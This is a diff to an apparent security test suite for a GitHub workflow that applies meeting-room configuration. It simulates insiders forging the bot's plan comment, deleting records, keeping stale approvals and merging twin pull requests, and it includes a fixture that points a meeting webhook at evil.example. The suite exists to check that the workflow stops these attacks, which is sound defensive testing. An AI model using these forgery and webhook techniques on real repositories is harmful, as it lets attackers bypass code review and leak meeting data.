@@ -17,7 +17,7 @@ import subprocess
 import time
 import urllib.request
 
-from github import REPOSITORY, WRITE
+from github import BOT, REPOSITORY, WRITE
 from loopback import ACTION, KEY, MEMORY, ROOT, Failed, Silent, check, git, largest, redirected, serve
 
 ATTACKS = []
@@ -1587,11 +1587,8 @@ def git_is_killed(s):
 
 @attack("3", "somebody who may push branches", "a workflow of their branch, whose token speaks for the bot, and edits its comment")
 def a_comment_that_is_edited(s):
-    rooms = {"rooms/board.yaml": "privacy: public\nrecordRoom: true\nmeetingStartedWebhook: https://evil.example/x\n"}
-    harmless = "<!-- roomctl:plan-for-apply -->\n## Plan for acme\n\n**Nothing to do**\n"
-
     def edited(comment):
-        bot(s, f"/issues/comments/{comment['id']}", harmless)
+        bot(s, f"/issues/comments/{comment['id']}", FORGED)
 
     def put_back(comment):
         before = comment["body"]
@@ -1604,7 +1601,7 @@ def a_comment_that_is_edited(s):
 
     for what in (edited, put_back, s.hub.comments.remove, another):
         before = s.main()
-        pull = s.pull_request(rooms, who="member")
+        pull = s.pull_request(EVIL, who="member")
         check("evil.example" in reads(s, pull), s.comment_of(pull))
         what(s.comment_on(pull))
         check(s.apply(s.merge(pull)) is False and "evil.example" not in s.room("board"), s.runner.log)
@@ -1623,6 +1620,8 @@ def a_comment_that_is_edited(s):
 
 
 EDITED = "This commit is not applied"
+FORGED = "<!-- roomctl:plan-for-apply -->\n## Plan for acme\n\n**Nothing to do**\n"
+EVIL = {"rooms/board.yaml": "privacy: public\nrecordRoom: true\nmeetingStartedWebhook: https://evil.example/x\n"}
 
 
 def not_applied_as_edited(s, pull):
@@ -1637,12 +1636,11 @@ def not_applied_as_edited(s, pull):
 
 @attack("3", "somebody who may push branches", "a comment that they forge until somebody approves it, and the truth in its place again: by a label, a push, or a deletion")
 def a_comment_that_is_put_right(s):
-    forged = "<!-- roomctl:plan-for-apply -->\n## Plan for acme\n\n**Nothing to do**\n"
     most = iter(range(100, 200))
     files = lambda: {"rooms/quick-2.yaml": f"maxParticipants: {next(most)}\n"}
 
     def forge(pull):
-        bot(s, f"/issues/comments/{s.comment_on(pull)['id']}", forged)
+        bot(s, f"/issues/comments/{s.comment_on(pull)['id']}", FORGED)
 
     def again(pull):
         s.plan(pull)
@@ -1669,24 +1667,124 @@ def a_comment_that_is_put_right(s):
         stopped = not_applied_as_edited(s, pull)
     # What their workflow wrote before anything was planned.
     pull = s.open(files(), who="member")
-    bot(s, f"/issues/{pull['number']}/comments", forged)
+    bot(s, f"/issues/{pull['number']}/comments", FORGED)
     s.plan(pull)
     not_applied_as_edited(s, pull)
     # A push that leaves an approval as it is does not lift it: GitHub does that where the difference stays the same.
-    review = {"user": {"login": "maintainer"}, "state": "APPROVED", "commit_id": pull["head"]["sha"]}
-    s.hub.reviews.append((pull["number"], review))
+    review = approved(s, pull)
     push(pull)
     not_applied_as_edited(s, pull)
     review["state"] = "DISMISSED"
     push(pull)
     check(s.apply(s.merge(pull)) and f'"maxParticipants":{next(most) - 1}' in s.room("quick-2"), s.runner.log)
-    # People who do not mean harm are not held up: a commit that cannot be planned, a run that failed, and another plan of the same.
-    pull = s.pull_request({"rooms/quick-2.yaml": "privacy: [\n"}, who="member")
-    s.plan(pull)
+    # People who do not mean harm are not held up: a comment that could not be written, also the first, a commit that cannot be planned, and
+    # another plan of the same.
+    pull = s.open({"rooms/quick-2.yaml": "privacy: [\n"}, who="member")
+    fail(pull)
+    again(pull)
+    check(EDITED not in s.comment_of(pull), s.comment_of(pull))
     push(pull)
     fail(pull)
     again(pull)
     check(s.apply(s.merge(pull)) and f'"maxParticipants":{next(most) - 1}' in s.room("quick-2"), s.runner.log)
+    return stopped
+
+
+def approved(s, pull, who="maintainer"):
+    """The approval of somebody who believes what is shown; gives it out."""
+    review = {"user": {"login": who}, "state": "APPROVED", "commit_id": pull["head"]["sha"]}
+    s.hub.reviews.append((pull["number"], review))
+    return review
+
+
+def deceived(s, pull):
+    """The comment is forged until somebody approves it; gives out the approval."""
+    bot(s, f"/issues/comments/{s.comment_on(pull)['id']}", FORGED)
+    return approved(s, pull)
+
+
+def forgotten(s, pull):
+    """All that was noted of a pull request is deleted."""
+    for one in s.hub.artifacts.values():
+        one["name"] = one["name"].removesuffix(f"-{pull['number']}")
+
+
+def on_top(s, pull):
+    """Goes on a commit without a difference."""
+    git("-C", s.clone, "checkout", "-q", pull["branch"])
+    git("-C", s.clone, "commit", "-q", "--allow-empty", "-m", "Nothing")
+    return git("-C", s.clone, "rev-parse", "HEAD")
+
+
+@attack("3", "somebody who may push branches", "a comment that they forge until somebody approves it, and a push there and back that leaves the approval as it is")
+def an_approval_and_a_push_there_and_back(s):
+    pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 201\n"}, who="member")
+    first, review = pull["head"]["sha"], deceived(s, pull)
+    for sha in (on_top(s, pull), first):
+        back_to(s, pull, sha)
+        s.plan(pull)
+        check(s.commented and EDITED in s.comment_of(pull), s.comment_of(pull))
+        stopped = not_applied_as_edited(s, pull)
+    review["state"] = "DISMISSED"
+    s.push_to(pull, {"rooms/quick-2.yaml": "maxParticipants: 202\n"})
+    approved(s, pull)
+    check(s.apply(s.merge(pull)) and '"maxParticipants":202' in s.room("quick-2"), s.run.log())
+    return stopped
+
+
+@attack("3", "somebody with write access", "all that was noted of a comment, deleted behind an approval of what they made of it, also where an App of the team writes it")
+def an_approval_of_what_is_forgotten(s):
+    app, most = {"type": "Bot", "login": "acme-rooms[bot]"}, iter(range(210, 300))
+    for s.hub.bot, s.runner.variables in ((BOT, {}), (app, {"ROOMCTL_BOT": app["login"]})):
+        pull = s.pull_request({"rooms/quick-2.yaml": f"maxParticipants: {next(most)}\n"}, who="member")
+        review = deceived(s, pull)
+        s.hub.comments.remove(s.comment_on(pull))
+        forgotten(s, pull)
+        s.plan(pull)
+        check(s.commented and EDITED in s.comment_of(pull), s.comment_of(pull))
+        not_applied_as_edited(s, pull)
+        # Once nobody is deceived any more, a push lifts it.
+        review["state"] = "DISMISSED"
+        approved(s, pull, "stranger")
+        s.push_to(pull, {"rooms/quick-2.yaml": f"maxParticipants: {next(most)}\n"})
+        check(s.apply(s.merge(pull)), s.run.log())
+        # Approved, and gone, before anything was planned, or in the midst of that.
+        for step in (None, "Plan"):
+            pull = s.open({"rooms/quick-2.yaml": f"maxParticipants: {next(most)}\n"}, who="member")
+            s.runner.before[step] = lambda: approved(s, pull)
+            s.plan(pull) if step else (approved(s, pull), s.plan(pull))
+            s.runner.before.pop(step)
+            check(s.commented and EDITED in s.comment_of(pull), s.comment_of(pull))
+            stopped = not_applied_as_edited(s, pull)
+    s.hub.bot, s.runner.variables = BOT, {}
+    return stopped
+
+
+@attack("3", "somebody who may push branches", "a second pull request of the same commits, or of all but an empty one, which is merged with the one whose comment they forge or whose plans they delete")
+def a_twin_that_is_merged_as_well(s):
+    def remove(pull):
+        deceived(s, pull)
+        s.hub.comments.remove(s.comment_on(pull))
+        forgotten(s, pull)
+
+    forge = lambda pull: bot(s, f"/issues/comments/{s.comment_on(pull)['id']}", FORGED)
+    ways = ((False, forge), (True, forge), (False, remove), (True, remove), (True, None))
+    for most, (is_longer, what) in enumerate(ways, 401):
+        before = s.main()
+        twin = s.pull_request({"rooms/quick-2.yaml": f"maxParticipants: {most}\n"}, who="member")
+        pull = s.open_commit(None, "member")
+        back_to(s, pull, on_top(s, twin) if is_longer else twin["head"]["sha"])
+        s.plan(pull)
+        if what:
+            what(pull)
+        sha = s.merge(pull)
+        # As GitHub does with each whose commits are in the default branch by then.
+        twin.update(state="closed", merged_at=pull["merged_at"])
+        twin["commits"][sha] = 1
+        check(s.apply(sha) is (not what) and (f'"maxParticipants":{most}' in s.room("quick-2")) is (not what), s.run.log())
+        if what:
+            stopped = refused(s, 4, f"the plan of pull request {pull['number']} does not count", "quick-2: no reviewed plan has it")
+            s.go_on(before)
     return stopped
 
 
